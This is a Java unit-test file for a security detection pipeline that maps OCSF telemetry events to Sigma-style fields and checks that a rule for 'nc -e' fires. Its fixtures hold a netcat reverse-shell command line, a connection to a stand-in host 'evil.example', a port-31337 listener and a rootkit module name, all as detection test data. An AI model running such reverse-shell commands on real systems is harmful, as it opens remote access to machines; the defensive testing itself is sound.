package io.chirp.detect.ocsf;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.chirp.detect.Detection;
import io.chirp.detect.Detector;
import io.chirp.detect.LogSource;
import org.junit.jupiter.api.Test;

import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

class OcsfPipelineTest {
    private static final ObjectMapper JSON = new ObjectMapper();
    private final OcsfPipeline pipeline = OcsfPipeline.standard();

    static JsonNode json(String s) {
        try {
            return JSON.readTree(s.replace('\'', '"'));
        } catch (Exception e) {
            throw new AssertionError(e);
        }
    }

    static final String LAUNCH = """
            {'class_uid': 1007, 'activity_id': 1, 'category_uid': 1, 'time': 1760000000000,
             'metadata': {'uid': 'ev-1', 'version': '1.8.0', 'product': {'name': 'CHIRP'}},
             'device': {'name': 'lab-1', 'uid': 'a1b2'},
             'actor': {'process': {'pid': 100, 'name': 'bash', 'cmd_line': 'bash', 'file': {'path': '/usr/bin/bash'}}},
             'process': {'pid': 4242, 'name': 'nc', 'cmd_line': 'nc -e /bin/sh 10.0.2.2 4444',
                         'file': {'path': '/usr/bin/nc', 'name': 'nc'}, 'user': {'name': 'alice', 'uid': '1000'},
                         'working_directory': '/tmp', 'session': {'uid': '1000'},
                         'parent_process': {'pid': 100, 'cmd_line': '-bash', 'file': {'path': '/bin/bash'},
                                            'user': {'name': 'alice'}}}}
            """;

    @Test void processLaunchMapsToProcessCreation() {
        OcsfEvent e = pipeline.map(json(LAUNCH)).orElseThrow();
        assertThat(e.logSource()).isEqualTo(LogSource.linux("process_creation"));
        assertThat(e.fields()).containsExactlyInAnyOrderEntriesOf(Map.ofEntries(
                Map.entry("Image", "/usr/bin/nc"), Map.entry("CommandLine", "nc -e /bin/sh 10.0.2.2 4444"),
                Map.entry("ProcessId", 4242L), Map.entry("User", "alice"), Map.entry("UserId", "1000"),
                Map.entry("CurrentDirectory", "/tmp"), Map.entry("OriginalFileName", "nc"), Map.entry("LogonId", "1000"),
                Map.entry("ParentImage", "/bin/bash"), Map.entry("ParentCommandLine", "-bash"),
                Map.entry("ParentProcessId", 100L), Map.entry("ParentUser", "alice")));
    }

    @Test void parentFallsBackToTheActor() {
        JsonNode ev = json("{'class_uid': 1007, 'activity_id': 1, 'actor': {'process': {'pid': 7, 'path': '/sbin/init',"
                + " 'cmd_line': 'init'}}, 'process': {'pid': 8, 'path': '/bin/sh'}}");
        OcsfEvent e = pipeline.map(ev).orElseThrow();
        assertThat(e.field("Image")).isEqualTo("/bin/sh");
        assertThat(e.field("ParentImage")).isEqualTo("/sbin/init");
        assertThat(e.field("ParentProcessId")).isEqualTo(7L);
        assertThat(e.field("ParentCommandLine")).isEqualTo("init");
        assertThat(e.field("CommandLine")).isNull();
    }

    @Test void networkOpenAndListen() {
        JsonNode open = json("""
                {'class_uid': 4001, 'activity_id': 1,
                 'actor': {'process': {'pid': 5, 'file': {'path': '/usr/bin/curl'}, 'cmd_line': 'curl x'}, 'user': {'name': 'bob'}},
                 'src_endpoint': {'ip': '10.0.2.15', 'port': 40000},
                 'dst_endpoint': {'ip': '198.51.100.7', 'port': 4444, 'hostname': 'evil.example'},
                 'connection_info': {'protocol_name': 'tcp', 'direction_id': 2}}
                """);
        OcsfEvent e = pipeline.map(open).orElseThrow();
        assertThat(e.logSource().category()).isEqualTo("network_connection");
        assertThat(e.fields()).containsEntry("Image", "/usr/bin/curl").containsEntry("User", "bob")
                .containsEntry("DestinationIp", "198.51.100.7").containsEntry("DestinationPort", 4444L)
                .containsEntry("DestinationHostname", "evil.example").containsEntry("SourceIp", "10.0.2.15")
                .containsEntry("SourcePort", 40000L).containsEntry("Protocol", "tcp").containsEntry("Initiated", "true");
        JsonNode listen = json("{'class_uid': 4001, 'activity_id': 7, 'actor': {'process': {'pid': 9, 'file': {'path': '/usr/bin/nc'}}},"
                + " 'dst_endpoint': {'ip': '0.0.0.0', 'port': 31337}, 'connection_info': {'protocol_name': 'tcp', 'direction_id': 1}}");
        OcsfEvent l = pipeline.map(listen).orElseThrow();
        assertThat(l.logSource().category()).isEqualTo("socket_listen");
        assertThat(l.fields()).containsEntry("LocalPort", 31337L).containsEntry("LocalIp", "0.0.0.0").containsEntry("Image", "/usr/bin/nc");
        assertThat(pipeline.map(json("{'class_uid': 4001, 'activity_id': 2}"))).as("close").isEmpty();
    }

    @Test void filesModulesCredentialsAndIntegrity() {
        OcsfEvent f = pipeline.map(json("{'class_uid': 1001, 'activity_id': 1, 'file': {'path': '/tmp/x.sh'},"
                + " 'actor': {'process': {'file': {'path': '/usr/bin/curl'}}}}")).orElseThrow();
        assertThat(f.logSource().category()).isEqualTo("file_event");
        assertThat(f.fields()).containsEntry("TargetFilename", "/tmp/x.sh").containsEntry("Image", "/usr/bin/curl");
        assertThat(pipeline.map(json("{'class_uid': 1001, 'activity_id': 4, 'file': {'path': '/x'}}")).orElseThrow()
                .logSource().category()).isEqualTo("file_delete");

        OcsfEvent m = pipeline.map(json("{'class_uid': 1005, 'activity_id': 1, 'module': {'file': {'name': 'diamorphine'}}}")).orElseThrow();
        assertThat(m.logSource().category()).isEqualTo("driver_load");
        assertThat(m.fields()).containsEntry("ModuleName", "diamorphine").doesNotContainKey("ImageLoaded");
        assertThat(pipeline.map(json("{'class_uid': 1002, 'activity_id': 1, 'driver': {'file': {'name': 'x', 'path': '/lib/x.ko'}}}"))
                .orElseThrow().field("ImageLoaded")).isEqualTo("/lib/x.ko");

        OcsfEvent c = pipeline.map(json("{'class_uid': 1007, 'activity_id': 5, 'process': {'pid': 3, 'file': {'path': '/tmp/x'},"
                + " 'user': {'name': 'root', 'uid': '0'}}, 'actor': {'user': {'name': 'alice', 'uid': '1000'}}}")).orElseThrow();
        assertThat(c.logSource().category()).isEqualTo("chirp_credentials");
        assertThat(c.fields()).containsEntry("UserId", "0").containsEntry("PreviousUserId", "1000").containsEntry("PreviousUser", "alice");

        OcsfEvent i = pipeline.map(json("{'class_uid': 2004, 'activity_id': 1, 'finding_info': {'uid': 'f', 'types': ['hidden_module'],"
                + " 'title': 'Module hidden from the module list'}, 'resources': [{'name': 'diamorphine', 'type': 'kernel_module'}]}")).orElseThrow();
        assertThat(i.logSource().category()).isEqualTo("chirp_integrity");
        assertThat(i.fields()).containsEntry("Finding", List.of("hidden_module")).containsEntry("ObjectName", "diamorphine");
        assertThat(pipeline.map(json("{'class_uid': 2004, 'activity_id': 1, 'finding_info': {'uid': 'f', 'analytic': {'type_id': 1}}}")))
                .as("rule findings never feed rules").isEmpty();
        assertThat(pipeline.map(json("{'class_uid': 1007, 'activity_id': 2}"))).as("exit").isEmpty();
        assertThat(pipeline.map(json("{'class_uid': 3002, 'activity_id': 1}"))).isEmpty();
    }

    @Test void everyCategoryDocumentsItsFields() {
        for (String c : pipeline.categories()) {
            assertThat(pipeline.fields(c)).as(c).isNotEmpty().allSatisfy(m -> assertThat(m.source()).isNotBlank());
        }
        assertThat(pipeline.hasField("process_creation", "CommandLine")).isTrue();
        assertThat(pipeline.hasField("process_creation", "Hashes")).isFalse();
    }

    @Test void ruleFiresOnMappedOcsfEvent() {
        Detector d = Detector.fromYaml("""
                title: nc -e
                id: r-nc
                logsource: {category: process_creation, product: linux}
                detection:
                    sel:
                        Image|endswith: /nc
                        CommandLine|contains: ' -e '
                        ParentImage|endswith: /bash
                    condition: sel
                """, "nc.yml");
        List<Detection> hits = d.detect(pipeline.map(json(LAUNCH)).orElseThrow());
        assertThat(hits).singleElement().satisfies(h -> assertThat(h.ruleId()).isEqualTo("r-nc"));
    }
}
